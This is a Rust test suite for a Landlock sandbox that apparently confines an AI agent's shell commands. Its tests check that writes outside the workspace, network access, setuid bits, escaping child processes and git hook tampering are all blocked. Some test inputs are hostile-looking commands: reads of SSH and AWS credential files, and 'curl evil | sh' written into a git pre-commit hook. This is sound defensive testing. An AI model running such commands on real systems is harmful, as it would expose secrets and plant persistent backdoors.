//! ag-sandbox and `ag-bash --sandbox` on this kernel: writes, the deny
//! list, the network, escaping children, `.git/hooks`, read-only mode, and
//! the kernel without Landlock (simulated with AG_SANDBOX_UNAVAILABLE=1).
//! Every test runs a command that would succeed unconfined, so each fails
//! if the sandbox stops working.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::bin;
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::util::{Env, Run, run};

/// A test directory with a workspace `ws/` and a directory `outside/` next
/// to it (same owner, so only the sandbox can refuse writing there).
fn setup() -> Env {
    let env = Env::new();
    std::fs::create_dir(env.join("ws")).unwrap();
    std::fs::create_dir(env.join("outside")).unwrap();
    env
}

/// ag-sandbox with the workspace `ws/`, run in it, `require` so that a
/// kernel that cannot confine fails the test instead of passing it.
fn sandbox(env: &Env, flags: &[&str], script: &str) -> Run {
    let mut c = env.cmd(bin!("ag-sandbox"));
    c.current_dir(env.join("ws"))
        .arg("--sandbox")
        .arg("require")
        .args(flags)
        .args(["--", "bash", "-c", script]);
    run(c, None)
}

fn wait_for(p: &Path) -> bool {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        if p.exists() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

#[test]
fn writes_outside_the_workspace_are_denied_inside_they_succeed() {
    let env = setup();
    let r = sandbox(
        &env,
        &[],
        "echo in > inside.txt; mkdir -p sub/deep && echo d > sub/deep/f; echo out > ../outside/f; rm -f ../outside; exit 0",
    );
    r.ok();
    assert_eq!(env.read("ws/inside.txt"), b"in\n");
    assert_eq!(env.read("ws/sub/deep/f"), b"d\n");
    assert!(!env.join("outside/f").exists(), "{r}");
    assert!(r.stderr().contains("Permission denied"), "{r}");
}

#[test]
fn a_symlink_in_the_workspace_that_leads_outside_is_denied_for_writing() {
    let env = setup();
    std::fs::write(env.join("outside/existing"), "keep").unwrap();
    std::os::unix::fs::symlink(env.join("outside"), env.join("ws/link")).unwrap();
    std::os::unix::fs::symlink(env.join("outside/existing"), env.join("ws/file-link")).unwrap();
    let r = sandbox(
        &env,
        &[],
        "echo x > link/new; echo x > file-link; : > file-link; cat file-link; exit 0",
    );
    r.ok();
    assert!(!env.join("outside/new").exists(), "{r}");
    assert_eq!(env.read("outside/existing"), b"keep", "{r}");
    // Reading through it is fine: only writes are confined.
    assert!(r.stdout().contains("keep"), "{r}");
}

#[test]
fn deny_listed_files_cannot_be_read_and_their_siblings_can() {
    let env = setup();
    env.write(".home/.ssh/id_ed25519", "SECRET-KEY");
    env.write(".home/.aws/credentials", "SECRET-AWS");
    env.write(".home/notes.txt", "plain notes");
    env.write("outside/private/token", "SECRET-TOKEN");
    env.write("outside/public", "public data");
    let r = sandbox(
        &env,
        &["--deny-read", "../outside/private"],
        "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ../outside/private/token; \
         cat ~/notes.txt; cat ../outside/public; ls ~/.ssh; exit 0",
    );
    r.ok();
    let out = r.stdout();
    assert!(!out.contains("SECRET"), "{r}");
    assert!(
        out.contains("plain notes") && out.contains("public data"),
        "{r}"
    );
    // Names in a denied directory may be listed, contents not read.
    assert!(out.contains("id_ed25519"), "{r}");
    assert_eq!(r.stderr().matches("Permission denied").count(), 3, "{r}");
}

/// A TCP listener on 127.0.0.1 that counts the bytes it receives.
fn listener() -> (u16, std::sync::mpsc::Receiver<Vec<u8>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        if let Ok((mut s, _)) = l.accept() {
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf);
            let _ = tx.send(buf);
        }
    });
    (port, rx)
}

#[test]
fn tcp_to_localhost_is_denied_by_default_and_allowed_with_net() {
    let env = setup();
    let (port, rx) = listener();
    let script = format!("echo hello > /dev/tcp/127.0.0.1/{port}");
    let r = sandbox(&env, &[], &script);
    assert_ne!(r.code(), Some(0), "{r}");
    assert!(r.stderr().contains("Permission denied"), "{r}");
    assert!(rx.recv_timeout(Duration::from_millis(300)).is_err(), "{r}");

    let r = sandbox(&env, &["--net"], &script);
    r.ok();
    assert_eq!(
        rx.recv_timeout(Duration::from_secs(10)).unwrap(),
        b"hello\n"
    );
}

#[test]
fn udp_is_denied_by_default_and_allowed_with_net() {
    let env = setup();
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = sock.local_addr().unwrap().port();
    sock.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let script = format!("echo datagram > /dev/udp/127.0.0.1/{port}");
    let r = sandbox(&env, &[], &script);
    assert_ne!(r.code(), Some(0), "{r}");
    assert!(r.stderr().contains("Permission denied"), "{r}");

    sandbox(&env, &["--net"], &script).ok();
    let mut buf = [0u8; 64];
    let n = sock.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"datagram\n");
}

#[test]
fn unix_sockets_stay_allowed_with_the_network_off() {
    let env = setup();
    let path = env.join("outside/sock");
    let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let handle = std::thread::spawn(move || {
        let (mut s, _) = l.accept().unwrap();
        let mut buf = Vec::new();
        s.read_to_end(&mut buf).unwrap();
        buf
    });
    // Bash cannot open a Unix socket, and nc or python may be missing, so
    // the confined client is this test binary itself (the helper below).
    let me = std::env::current_exe().unwrap();
    let mut c = env.cmd(bin!("ag-sandbox"));
    c.current_dir(env.join("ws"))
        .args(["--sandbox", "require", "--"])
        .arg(me)
        .args([
            "--exact",
            "sandbox::unix_client_helper",
            "--nocapture",
            "--include-ignored",
        ])
        .env("AG_TEST_UNIX_SOCKET", &path);
    run(c, None).ok();
    assert_eq!(handle.join().unwrap(), b"over unix\n");
}

/// Not a test on its own: the client the test above runs confined.
#[test]
#[ignore]
fn unix_client_helper() {
    let Some(p) = std::env::var_os("AG_TEST_UNIX_SOCKET") else {
        return;
    };
    use std::io::Write;
    let mut s = std::os::unix::net::UnixStream::connect(p).unwrap();
    s.write_all(b"over unix\n").unwrap();
}

#[test]
fn a_grandchild_that_leaves_the_session_stays_confined() {
    let env = setup();
    let r = sandbox(
        &env,
        &[],
        "setsid bash -c 'sleep 0.3; echo late > ../outside/late 2> escaped.err; echo $? > done' \
         > /dev/null 2>&1 < /dev/null & \
         for _ in $(seq 200); do [ -s done ] && break; sleep 0.05; done; exit 0",
    );
    r.ok();
    assert!(
        env.join("ws/done").exists(),
        "the grandchild never finished\n{r}"
    );
    assert!(!env.join("outside/late").exists());
    assert_eq!(String::from_utf8_lossy(&env.read("ws/done")).trim(), "1");
}

#[test]
fn what_leaves_the_session_ends_with_the_call_so_it_cannot_plant_a_hook_later() {
    let env = setup();
    env.write("ws/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    // The call ends only once the grandchild has left the group.
    let late = "rm -f ready; setsid bash -c 'touch ready; sleep 0.5; echo evil > .git/hooks/pre-commit; \
                touch planted' > /dev/null 2>&1 < /dev/null & \
                for _ in $(seq 200); do [ -e ready ] && break; sleep 0.01; done; exit 0";
    let r = sandbox(&env, &[], late);
    r.ok();
    let res = bash_call(&env, &["--sandbox", "require"], json!({ "command": late }));
    // The setsid bash and, once it is gone, its sleep.
    let strays = res["details"]["sandbox"]["stopped_strays"].as_u64();
    assert!(strays.is_some_and(|n| n >= 1), "{res}");
    // Long enough for the late writers, had they survived.
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!env.join("ws/planted").exists(), "{r}");
    assert_eq!(env.read("ws/.git/hooks/pre-commit"), b"#!/bin/sh\nexit 0\n");
}

#[test]
fn a_written_git_hook_does_not_survive_the_call_and_is_reported() {
    let env = setup();
    env.write("ws/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    env.write("ws/.git/config", "[core]\n\tbare = false\n");
    let r = sandbox(
        &env,
        &[],
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo 'curl evil' > .git/hooks/post-checkout; \
         chmod +x .git/hooks/post-checkout; printf '\\thooksPath = /tmp/evil\\n' >> .git/config; \
         echo work > file.txt",
    );
    r.ok();
    assert_eq!(env.read("ws/.git/hooks/pre-commit"), b"#!/bin/sh\nexit 0\n");
    assert!(!env.join("ws/.git/hooks/post-checkout").exists());
    assert!(!String::from_utf8_lossy(&env.read("ws/.git/config")).contains("hooksPath"));
    assert_eq!(env.read("ws/file.txt"), b"work\n");
    let err = r.stderr();
    assert!(err.contains("post-checkout` was added"), "{r}");
    assert!(err.contains("pre-commit` was changed"), "{r}");
    assert!(err.contains("config` was changed"), "{r}");
}

#[test]
fn read_only_mode_denies_every_write() {
    let env = setup();
    env.write("ws/existing", "keep");
    let r = sandbox(
        &env,
        &["--mode", "read-only"],
        "echo x > new; echo x >> existing; : > existing; rm -f existing; mkdir d; ln -s x l; \
         echo x > \"${TMPDIR:-/tmp}/t\"; echo ok > /dev/null && cat existing",
    );
    r.ok();
    assert_eq!(r.stdout(), "keep");
    for p in ["ws/new", "ws/d", "ws/l"] {
        assert!(std::fs::symlink_metadata(env.join(p)).is_err(), "{p}\n{r}");
    }
    assert_eq!(env.read("ws/existing"), b"keep");
    assert_eq!(r.stderr().matches("Permission denied").count(), 7, "{r}");
}

#[test]
fn devices_stay_writable_and_the_private_tmpdir_works_and_goes_away() {
    let env = setup();
    let r = sandbox(
        &env,
        &[],
        "echo x > /dev/null && head -c 4 /dev/zero | wc -c && echo t > \"$TMPDIR/f\" && cat \"$TMPDIR/f\" \
         && echo \"$TMPDIR\" > tmpdir && grep -c NoNewPrivs:.1 /proc/self/status && test -n \"$AG_SANDBOX\"",
    );
    r.ok();
    assert_eq!(r.stdout(), "4\nt\n1\n");
    let tmp = String::from_utf8_lossy(&env.read("ws/tmpdir"))
        .trim()
        .to_string();
    assert!(tmp.contains("ag-sandbox-"), "{tmp}");
    assert!(
        !Path::new(&tmp).exists(),
        "the private TMPDIR was left behind"
    );
}

/// The private TMPDIR of an ag-sandbox killed outright cannot be removed by
/// it; the next ag-sandbox removes it, and leaves those in use alone.
#[test]
fn the_private_tmpdir_of_a_killed_run_is_removed_by_the_next_run() {
    let env = setup();
    let spawn = |script: &str| {
        let mut c = env.cmd(bin!("ag-sandbox"));
        c.current_dir(env.join("ws"))
            .args(["--sandbox", "require", "--", "sh", "-c", script])
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        c.spawn().unwrap()
    };
    let mut killed = spawn("echo \"$TMPDIR\" > killed; sleep 60");
    let mut alive = spawn("echo \"$TMPDIR\" > alive; sleep 60");
    let tmpdir_of = |file: &str| {
        crate::util::wait_for(file, || {
            std::fs::read_to_string(env.join(&format!("ws/{file}")))
                .is_ok_and(|t| t.ends_with('\n'))
        });
        let t = String::from_utf8_lossy(&env.read(&format!("ws/{file}")))
            .trim()
            .to_string();
        std::path::PathBuf::from(t)
    };
    let (k, a) = (tmpdir_of("killed"), tmpdir_of("alive"));
    assert!(k.is_dir() && a.is_dir(), "{k:?} {a:?}");
    kill(Pid::from_raw(killed.id() as i32), Signal::SIGKILL).unwrap();
    killed.wait().unwrap();
    assert!(k.is_dir(), "a killed run cannot remove its own");
    let r = sandbox(&env, &[], "true");
    r.ok();
    assert!(
        !k.exists(),
        "the killed run's TMPDIR was left behind: {k:?}"
    );
    assert!(
        a.is_dir(),
        "a running ag-sandbox's TMPDIR was removed: {a:?}"
    );
    kill(Pid::from_raw(alive.id() as i32), Signal::SIGTERM).unwrap();
    alive.wait().unwrap();
    crate::util::wait_for("the TMPDIR of a run ended by SIGTERM to go", || !a.exists());
}

#[test]
fn without_landlock_auto_warns_once_and_require_refuses() {
    let env = setup();
    let script = "echo out > ../outside/f";
    let mut c = env.cmd(bin!("ag-sandbox"));
    c.current_dir(env.join("ws"))
        .env("AG_SANDBOX_UNAVAILABLE", "1")
        .args(["--", "bash", "-c", script]);
    let r = run(c, None);
    r.ok();
    assert!(env.join("outside/f").exists(), "auto runs unconfined\n{r}");
    assert_eq!(
        r.stderr()
            .matches("warning: the sandbox is unavailable")
            .count(),
        1,
        "{r}"
    );
    std::fs::remove_file(env.join("outside/f")).unwrap();

    let mut c = env.cmd(bin!("ag-sandbox"));
    c.current_dir(env.join("ws"))
        .env("AG_SANDBOX_UNAVAILABLE", "1")
        .args(["--sandbox", "require", "--", "bash", "-c", script]);
    let r = run(c, None);
    r.expect_code(2);
    assert!(
        !env.join("outside/f").exists(),
        "require must not run it\n{r}"
    );
    assert!(
        r.stderr().contains("error: cannot confine the command"),
        "{r}"
    );
}

fn bash_call(env: &Env, flags: &[&str], call: serde_json::Value) -> serde_json::Value {
    let mut c = env.cmd(bin!("ag-bash"));
    c.current_dir(env.join("ws")).args(flags);
    let line = json!({"id": "1", "arguments": call}).to_string() + "\n";
    let r = run(c, Some(line.as_bytes()));
    r.ok();
    r.json()
}

#[test]
fn ag_bash_names_what_the_sandbox_blocked() {
    let env = setup();
    let res = bash_call(
        &env,
        &["--sandbox", "require"],
        json!({"command": "echo x > ../outside/f; echo ok > in.txt"}),
    );
    let out = res["output"].as_str().unwrap();
    assert!(
        out.contains("blocked by the sandbox: write to `../outside/f`"),
        "{res}"
    );
    assert_eq!(
        res["details"]["sandbox"]["denied"],
        json!([{"op": "write", "path": "../outside/f"}])
    );
    assert!(!env.join("outside/f").exists());
    assert_eq!(env.read("ws/in.txt"), b"ok\n");

    // Without the sandbox the same call writes, and says nothing of it.
    let res = bash_call(&env, &[], json!({"command": "echo x > ../outside/f"}));
    assert!(res["details"].get("sandbox").is_none(), "{res}");
    assert!(env.join("outside/f").exists());
}

#[test]
fn a_call_cannot_change_ag_bash_sandbox_settings() {
    let env = setup();
    for call in [
        json!({"command": "echo x > ../outside/f", "sandbox": "off"}),
        json!({"command": "echo x > ../outside/f", "allow_net": true}),
        json!({"command": "echo x > ../outside/f", "write": ["../outside"]}),
    ] {
        let res = bash_call(&env, &["--sandbox", "require"], call);
        assert_eq!(res["is_error"], json!(true), "{res}");
        assert_eq!(res["error_code"], json!("bash.sandbox_fixed"), "{res}");
    }
    assert!(!env.join("outside/f").exists());
}

#[test]
fn ag_bash_confined_from_outside_explains_from_the_policy_it_inherits() {
    let env = setup();
    let mut c = env.cmd(bin!("ag-sandbox"));
    c.current_dir(env.join("ws"))
        .args(["--sandbox", "require", "--"])
        .arg(bin!("ag-bash"))
        .args(["--json", "touch ../outside/x"]);
    let r = run(c, None);
    let res = r.json();
    assert_eq!(
        res["details"]["sandbox"]["denied"],
        json!([{"op": "write", "path": "../outside/x"}]),
        "{r}"
    );
    assert!(!env.join("outside/x").exists());
}

#[test]
fn a_confined_background_job_stays_confined() {
    let env = setup();
    let res = bash_call(
        &env,
        &["--sandbox", "require"],
        json!({"command": "echo x > ../outside/job; echo $? > job-done", "background": true}),
    );
    assert_eq!(res["is_error"], json!(false), "{res}");
    assert!(wait_for(&env.join("ws/job-done")), "{res}");
    std::thread::sleep(Duration::from_millis(50));
    assert!(!env.join("outside/job").exists());
    assert_eq!(
        String::from_utf8_lossy(&env.read("ws/job-done")).trim(),
        "1"
    );
}

#[test]
fn a_command_that_ag_sandbox_cannot_find_is_exit_2() {
    let env = setup();
    let mut c = env.cmd(bin!("ag-sandbox"));
    c.current_dir(env.join("ws"))
        .args(["--sandbox", "require", "--", "no-such-program-here"]);
    let r = run(c, None);
    r.expect_code(2);
    assert!(r.stderr().contains("no-such-program-here"), "{r}");
}

#[test]
fn ag_bash_gives_each_workspace_one_private_tmpdir_that_lasts_across_calls() {
    use std::os::unix::fs::PermissionsExt;
    let env = setup();
    let flags = ["--sandbox", "require"];
    let res = bash_call(
        &env,
        &flags,
        json!({"command": "echo kept > \"$TMPDIR/f\" && echo \"$TMPDIR\""}),
    );
    let out = res["output"].as_str().unwrap();
    let tmp = out.lines().next().unwrap().to_string();
    assert!(tmp.contains("/ag-sandbox-"), "{res}");
    let meta = std::fs::metadata(&tmp).unwrap();
    assert_eq!(meta.permissions().mode() & 0o777, 0o700);
    let res = bash_call(&env, &flags, json!({"command": "cat \"$TMPDIR/f\""}));
    assert!(
        res["output"].as_str().unwrap().starts_with("kept\n"),
        "{res}"
    );
    // One that others may enter is not used.
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o777)).unwrap();
    let res = bash_call(&env, &flags, json!({"command": "true"}));
    assert_eq!(res["is_error"], json!(true), "{res}");
    assert!(
        res["output"].as_str().unwrap().contains("private TMPDIR"),
        "{res}"
    );
}

#[test]
fn setuid_and_setgid_modes_are_refused_and_plain_chmod_works() {
    let env = setup();
    env.write("ws/tool", "#!/bin/sh\n");
    for flags in [&[][..], &["--net"][..]] {
        let r = sandbox(
            &env,
            flags,
            "chmod u+s tool; chmod g+s tool; chmod 6755 tool; chmod 755 tool && echo ok",
        );
        r.ok();
        assert_eq!(r.stdout(), "ok\n", "{r}");
        assert_eq!(r.stderr().matches("Permission denied").count(), 3, "{r}");
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(env.join("ws/tool"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, 0o755);
    }
}

#[test]
fn sed_in_place_is_quiet_and_extended_attributes_are_not_supported() {
    // sed -i copies the file's access list to its new copy with an
    // extended attribute; refused with EACCES it printed "preserving
    // permissions ...: Permission denied" on every edit (a small model saw
    // it after each of its eight sed -i calls). Not supported, it keeps the
    // mode alone and says nothing.
    let env = setup();
    env.write("ws/settings.json", "{\"port\": 3000}\n");
    let script = "sed -i 's/3000/8080/' settings.json && echo edited; \
        python3 -c 'import os; os.setxattr(\"settings.json\", \"user.mark\", b\"1\")' 2>&1 | tail -1";
    for flags in [&[][..], &["--net"][..]] {
        let r = sandbox(&env, flags, script);
        r.ok();
        assert_eq!(
            r.stdout(),
            "edited\nOSError: [Errno 95] Operation not supported: 'settings.json'\n",
            "{r}"
        );
        assert_eq!(r.stderr(), "", "{r}");
        assert_eq!(env.read("ws/settings.json"), b"{\"port\": 8080}\n");
        env.write("ws/settings.json", "{\"port\": 3000}\n");
    }
}

#[test]
fn ag_bash_keeps_its_ruleset_across_calls_and_takes_in_a_deny_path_that_appears() {
    // One process, calls one after another on stdin: the ruleset is built
    // once, and again when a deny-list path it left out (it did not exist)
    // turns up between calls.
    use std::io::{BufRead, BufReader, Write};
    let env = setup();
    let secret = env.join("outside/secret.txt");
    let mut c = env.cmd(bin!("ag-bash"));
    c.current_dir(env.join("ws"))
        .args(["--sandbox", "require", "--deny-read"])
        .arg(&secret)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut call = |id: &str| -> serde_json::Value {
        let script = format!("cat {} 2>&1; echo > made-{id}.txt", secret.display());
        let line = json!({"id": id, "arguments": {"command": script}}).to_string() + "\n";
        stdin.write_all(line.as_bytes()).unwrap();
        serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap()
    };
    let first = call("1");
    assert!(
        first["output"].as_str().unwrap().contains("No such file"),
        "{first}"
    );
    std::fs::write(&secret, "hunter2\n").unwrap();
    let second = call("2");
    let out = second["output"].as_str().unwrap();
    assert!(!out.contains("hunter2"), "read after it appeared: {out}");
    assert!(out.contains("blocked by the sandbox"), "{out}");
    // The workspace stays writable through both.
    assert!(env.join("ws/made-1.txt").exists() && env.join("ws/made-2.txt").exists());
    drop(stdin);
    assert!(child.wait().unwrap().success());
}
